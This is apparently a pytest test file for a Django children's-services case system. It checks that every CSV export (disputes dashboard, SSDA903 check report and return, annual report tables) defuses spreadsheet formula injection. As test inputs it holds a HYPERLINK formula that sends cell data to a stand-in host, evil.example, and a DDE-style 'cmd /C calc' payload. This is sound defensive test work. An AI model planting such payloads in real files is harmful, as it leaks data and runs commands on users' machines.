"""Every CSV the service writes goes through ``iro_service.csv``: a name, reference or file name
typed as a spreadsheet formula arrives as text in the disputes dashboard CSV, the SSDA903 check
report, the SSDA903 return and the annual report's tables."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from disputes.models import EscalationStage
from interchange import services as ssda903_services
from iro_service.csv import FORMULA_STARTS, csv_writer, safe_cell
from iro_service.periods import ReportingYear
from reporting.models import ReportVersion, SSDA903Upload
from tests.disputes.factories import raise_dispute
from tests.factories import make_child_in_care
from tests.interchange.helpers import hand_made_texts

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ROOT = Path(__file__).resolve().parents[2]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run; numbers (negative ones too) are figures, not formulas."""
    return [c for c in _cells(text) if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", c)]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (SUM, "'" + SUM),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1+1", "'-1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1+1", "'\n=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\u3000\uff20SUM(A1)", "'\u3000\uff20SUM(A1)"),
        ("Mary Smith", "Mary Smith"),
        ("K0001", "K0001"),
        ("01/04/2025", "01/04/2025"),
        ("", ""),
        (None, ""),
        (-2, -2),
        (1.5, 1.5),
        (Decimal("-0.5"), Decimal("-0.5")),
        (True, "True"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_writer_passes_every_cell_through_safe_cell():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["name", HYPERLINK])
    writer.writerows([[SUM, -3]])
    quoted = HYPERLINK.replace('"', '""')
    assert buffer.getvalue() == f"name,\"'{quoted}\"\n'{SUM},-3\n"


def test_no_module_writes_csv_except_through_iro_service_csv():
    """The class, not the instance: a new CSV written with ``csv.writer`` fails here."""
    packages = ("iro_service", "children", "reviews", "disputes", "reporting", "interchange")
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = sorted(
        str(p.relative_to(ROOT))
        for package in packages
        for p in (ROOT / package).rglob("*.py")
        if writers.search(p.read_text(encoding="utf-8"))
    )
    assert found == ["iro_service/csv.py"]


@pytest.fixture
def formula_child(iro, today):
    return make_child_in_care(
        iro=iro, looked_after_on=today - dt.timedelta(days=300), local_reference="@SUM(1)", first_name=HYPERLINK
    )


@pytest.mark.django_db
def test_the_disputes_dashboard_csv_neutralises_references_and_names(client_for, manager, iro, formula_child, today):
    iro.first_name = SUM
    iro.save()
    raise_dispute(formula_child, iro, raised_on=today, change_by_when=today + dt.timedelta(days=30), today=today)

    text = client_for(manager).get(reverse("disputes:dashboard_csv")).content.decode()

    assert "'@SUM(1)" in _cells(text) and f"'{SUM} {iro.last_name}" in _cells(text)
    assert _formulas(text) == []


@pytest.mark.django_db
def test_the_ssda903_check_report_neutralises_file_names_references_and_keys(client_for, manager):
    texts = hand_made_texts()
    header = texts.pop("header.csv")
    first_child = header.splitlines()[1].split(",")[0]
    texts[f"{HYPERLINK}.csv"] = header.replace(first_child, "@SUM(1)", 1)
    upload = SSDA903Upload.objects.create(uploaded_by=manager, files=texts)
    ssda903_services.ssda903_upload_check(upload_id=upload.pk)  # the check a task runs
    upload.refresh_from_db()

    response = client_for(manager).get(reverse("interchange:ssda903_upload_report", args=[upload.pk]))

    text = response.content.decode()
    assert response.status_code == 200
    assert f"'{HYPERLINK}.csv" in _cells(text)  # the file name of each problem on it
    assert "'@SUM(1)" in _cells(text)  # the child reference and key of the change it plans
    assert _formulas(text) == []


@pytest.mark.django_db
def test_the_ssda903_return_writes_a_formula_reference_as_text(client_for, manager, formula_child, today):
    year = ReportingYear.containing(today)

    response = client_for(manager).get(reverse("interchange:ssda903_export") + f"?year={year.label}")

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        texts = {name: archive.read(name).decode() for name in archive.namelist()}
    header = next(text for name, text in texts.items() if name.endswith("header.csv"))
    assert "'@SUM(1)" in _cells(header)
    assert [(name, _formulas(text)) for name, text in texts.items() if _formulas(text)] == []


@pytest.mark.django_db
def test_the_annual_report_tables_neutralise_names_from_the_database(client_for, manager, iro, today):
    EscalationStage.objects.filter(number=1).update(name=HYPERLINK)
    raise_dispute(
        make_child_in_care(iro=iro, looked_after_on=today - dt.timedelta(days=300)),
        iro,
        raised_on=today,
        change_by_when=today + dt.timedelta(days=30),
        today=today,
    )
    iro.first_name = SUM
    iro.save()
    version = ReportVersion.objects.create(
        start_year=ReportingYear.containing(today).start_year, number=1, status="ready", requested_by=manager
    )

    response = client_for(manager).get(reverse("reporting:tables_csv", args=[version.pk]))

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        texts = {name: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}
    every_cell = [cell for text in texts.values() for cell in _cells(text)]
    assert any(cell.startswith(f"'{HYPERLINK}") for cell in every_cell)
    assert [(name, _formulas(text)) for name, text in texts.items() if _formulas(text)] == []
